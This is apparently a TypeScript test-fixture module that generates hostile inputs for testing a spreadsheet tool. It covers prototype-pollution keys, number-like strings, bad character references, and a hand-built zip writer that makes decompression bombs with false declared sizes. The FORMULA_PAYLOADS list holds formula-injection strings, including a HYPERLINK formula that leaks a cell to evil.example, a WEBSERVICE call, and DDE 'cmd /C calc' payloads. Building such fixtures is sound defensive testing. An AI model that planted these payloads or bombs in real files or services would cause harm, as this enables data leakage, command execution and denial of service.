/**
 * Hostile and broken inputs, generated (never checked in) so that a new variant is one line in a table. Each
 * generator is small and deterministic; the zip writer lets a test declare sizes that lie.
 */
import JSZip from "jszip";
import { deflateRawSync, constants as zlib } from "node:zlib";

/** Names that find Object.prototype's members in a plain object lookup. */
export const PROTOTYPE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "__defineGetter__",
  " __PROTO__ ",
  "Constructor",
] as const;

/** Prefixes a spreadsheet reads as the start of a formula (and DDE / hyperlink payloads built on them). */
export const FORMULA_PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", "=", "+"] as const;

/** Texts that would run as formulas if written through `range.formulas` or an XML `<f>` element. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/")',
  "=1+1",
] as const;

/**
 * Text Excel turns into something else when it arrives through `range.values` as if typed: numbers (a department
 * code `0012`, `1e5`, a bare `3.12%`), dates and times, booleans. Whole strings: `3.12%左右` stays text anyway.
 */
export const NUMBER_LIKE_TEXTS = [
  "3.12%",
  "0012",
  "1e5",
  "2025-06-30",
  "TRUE",
  "false",
  "1,000",
  "(12)",
  ".5",
  "6/30",
  "2025/6/30",
  "2025年6月30日",
  "6月30日",
  "10:30",
  "Jun 30",
  " 75 ",
] as const;

/** Character references no code point answers: a naive String.fromCodePoint throws RangeError on them. */
export const BAD_CHARACTER_REFERENCES = ["&#99999999;", "&#x110000;", "&#1114112;", "&#xFFFFFFFFF;", "&#0;"] as const;

export interface ZipEntry {
  readonly name: string;
  /** The part's bytes, or a run of `zeros` bytes deflated block by block without ever holding them. */
  readonly data?: Uint8Array | string;
  readonly zeros?: number;
  /** Declared uncompressed size, when it should lie (a bomb hiding its size). */
  readonly declaredSize?: number;
  /** Bytes written as the part's compressed data as they are (a damaged stream). */
  readonly compressed?: Uint8Array;
}

const ZERO_BLOCK = 1 << 20;
let zeroChunk: Buffer | undefined;

/** Raw deflate of `n` zero bytes, built from one sync-flushed 1 MiB chunk repeated (≈1 KB per MiB). */
function deflatedZeros(n: number): Buffer {
  zeroChunk ??= deflateRawSync(Buffer.alloc(ZERO_BLOCK), { finishFlush: zlib.Z_SYNC_FLUSH, level: 9 });
  const whole = Math.floor(n / ZERO_BLOCK);
  const rest = n - whole * ZERO_BLOCK;
  const parts: Buffer[] = Array.from({ length: whole }, () => zeroChunk as Buffer);
  parts.push(deflateRawSync(Buffer.alloc(rest), { level: 9 })); // the final block
  return Buffer.concat(parts);
}

/**
 * A zip package written by hand (stored CRCs are 0: readers that check them refuse, which is also a refusal).
 *
 * @example zipOf([{ name: "xl/worksheets/sheet1.xml", zeros: 2 ** 31 }]) // ≈2 MB that inflate to 2 GiB
 */
export function zipOf(entries: readonly ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, "utf8");
    const raw =
      entry.zeros !== undefined
        ? undefined
        : typeof entry.data === "string"
          ? Buffer.from(entry.data, "utf8")
          : Buffer.from(entry.data ?? new Uint8Array());
    const compressed =
      entry.compressed !== undefined
        ? Buffer.from(entry.compressed)
        : raw === undefined
          ? deflatedZeros(entry.zeros ?? 0)
          : deflateRawSync(raw);
    const size = entry.declaredSize ?? (raw === undefined ? (entry.zeros ?? 0) : raw.length);
    const clamp = (n: number) => Math.min(n, 0xffffffff);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(0, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(clamp(size), 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, compressed);
    const head = Buffer.alloc(46);
    head.writeUInt32LE(0x02014b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(20, 6);
    head.writeUInt16LE(0x0800, 8);
    head.writeUInt16LE(8, 10);
    head.writeUInt32LE(0, 16);
    head.writeUInt32LE(compressed.length, 20);
    head.writeUInt32LE(clamp(size), 24);
    head.writeUInt16LE(name.length, 28);
    head.writeUInt32LE(offset, 42);
    central.push(head, name);
    offset += 30 + name.length + compressed.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/**
 * A package rewritten part by part: `change` returns a part's replacement (an entry without its name), `null` to
 * drop it, or undefined to keep it; `add` appends parts. One line per hostile variant of a real workbook.
 */
export async function rezip(
  bytes: Uint8Array,
  change: (
    name: string,
    text: () => Promise<string>,
  ) => Promise<Omit<ZipEntry, "name"> | null | undefined> | Omit<ZipEntry, "name"> | null | undefined,
  add: readonly ZipEntry[] = [],
): Promise<Buffer> {
  const zip = await JSZip.loadAsync(bytes);
  const entries: ZipEntry[] = [];
  for (const file of Object.values(zip.files)) {
    if (file.dir) continue;
    const replaced = await change(file.name, () => file.async("string"));
    if (replaced === null) continue;
    entries.push(
      replaced === undefined
        ? { name: file.name, data: await file.async("uint8array") }
        : { name: file.name, ...replaced },
    );
  }
  return zipOf([...entries, ...add]);
}

/** Bytes that are no text: what a binary file renamed .txt holds. */
export function binaryBytes(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out[i] = x >> 16;
  }
  return out;
}

/** A part as the zip stores it: compression method, CRC-32 and compressed bytes, read from the central directory. */
export interface StoredPart {
  readonly method: number;
  readonly crc: number;
  readonly compressed: Buffer;
}

/** Every part's stored (compressed) form: to check that a part was copied, not inflated and deflated again. */
export function storedParts(bytes: Uint8Array): Map<string, StoredPart> {
  const b = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let end = b.length - 22;
  while (end >= 0 && b.readUInt32LE(end) !== 0x06054b50) end--;
  if (end < 0) throw new Error("no zip");
  const out = new Map<string, StoredPart>();
  let at = b.readUInt32LE(end + 16);
  for (let n = b.readUInt16LE(end + 10); n > 0; n--) {
    const nameLength = b.readUInt16LE(at + 28);
    const name = b.toString("utf8", at + 46, at + 46 + nameLength);
    const local = b.readUInt32LE(at + 42);
    const start = local + 30 + b.readUInt16LE(local + 26) + b.readUInt16LE(local + 28);
    out.set(name, {
      method: b.readUInt16LE(at + 10),
      crc: b.readUInt32LE(at + 16),
      compressed: b.subarray(start, start + b.readUInt32LE(at + 20)),
    });
    at += 46 + nameLength + b.readUInt16LE(at + 30) + b.readUInt16LE(at + 32);
  }
  return out;
}

/** The worksheet part of the sheet named `sheet` (via xl/workbook.xml and its relationships). */
export async function sheetPartOf(bytes: Uint8Array, sheet: string): Promise<string> {
  const zip = await JSZip.loadAsync(bytes);
  const workbook = (await zip.file("xl/workbook.xml")?.async("string")) ?? "";
  const rels = (await zip.file("xl/_rels/workbook.xml.rels")?.async("string")) ?? "";
  const tag = [...workbook.matchAll(/<sheet\b[^>]*>/g)].map((m) => m[0]).find((t) => t.includes(`name="${sheet}"`));
  const id = /r:id="([^"]+)"/.exec(tag ?? "")?.[1];
  const rel = [...rels.matchAll(/<Relationship\b[^>]*>/g)].map((m) => m[0]).find((t) => t.includes(`Id="${id}"`));
  const target = /Target="([^"]+)"/.exec(rel ?? "")?.[1];
  if (!target) throw new Error(`no sheet ${sheet}`);
  return target.startsWith("/") ? target.slice(1) : `xl/${target}`;
}

/**
 * A workbook with one more worksheet, as Excel would have saved it (real CRCs, deflated): a colleague's own sheet
 * added to one of ours. `shared` strings are appended to sharedStrings.xml (the sheet's `t="s"` cells index them
 * from `firstShared`, which this returns). The new part's path is returned too.
 */
export async function withForeignSheet(
  bytes: Uint8Array,
  name: string,
  sheet: (firstShared: number) => string,
  shared: readonly string[] = [],
): Promise<{ bytes: Buffer; part: string }> {
  const zip = await JSZip.loadAsync(bytes);
  const text = async (path: string) => (await zip.file(path)?.async("string")) ?? "";
  let n = 1;
  while (zip.file(`xl/worksheets/sheet${n}.xml`)) n++;
  const part = `xl/worksheets/sheet${n}.xml`;
  const rels = await text("xl/_rels/workbook.xml.rels");
  const rid = `rIdForeign${n}`;
  zip.file(
    "xl/_rels/workbook.xml.rels",
    rels.replace(
      "</Relationships>",
      `<Relationship Id="${rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${n}.xml"/></Relationships>`,
    ),
  );
  const workbook = await text("xl/workbook.xml");
  const ids = [...workbook.matchAll(/sheetId="(\d+)"/g)].map((m) => Number(m[1]));
  zip.file(
    "xl/workbook.xml",
    workbook.replace(
      /<\/sheets>/,
      `<sheet name="${name}" sheetId="${Math.max(0, ...ids) + 1}" r:id="${rid}"/></sheets>`,
    ),
  );
  const types = await text("[Content_Types].xml");
  zip.file(
    "[Content_Types].xml",
    types.replace(
      "</Types>",
      `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    ),
  );
  let strings = await text("xl/sharedStrings.xml");
  if (strings === "" && shared.length > 0) {
    // Our writer keeps its text inline, so a workbook of ours may have no table yet: Excel adds one when it saves.
    strings =
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>';
    const withSheet = (await text("xl/_rels/workbook.xml.rels")).replace(
      "</Relationships>",
      '<Relationship Id="rIdForeignStrings" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    );
    zip.file("xl/_rels/workbook.xml.rels", withSheet);
    zip.file(
      "[Content_Types].xml",
      (await text("[Content_Types].xml")).replace(
        "</Types>",
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
      ),
    );
  }
  const firstShared = (strings.match(/<si>/g) ?? []).length;
  if (shared.length > 0) {
    const items = shared.map((s) => `<si><t>${s}</t></si>`).join("");
    zip.file(
      "xl/sharedStrings.xml",
      strings
        .replace(/<\/sst>/, `${items}</sst>`)
        .replace(/\b(count|uniqueCount)="(\d+)"/g, (_m, k: string, v: string) => `${k}="${Number(v) + shared.length}"`),
    );
  }
  zip.file(part, sheet(firstShared));
  const out = await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 6 } });
  return { bytes: out, part };
}
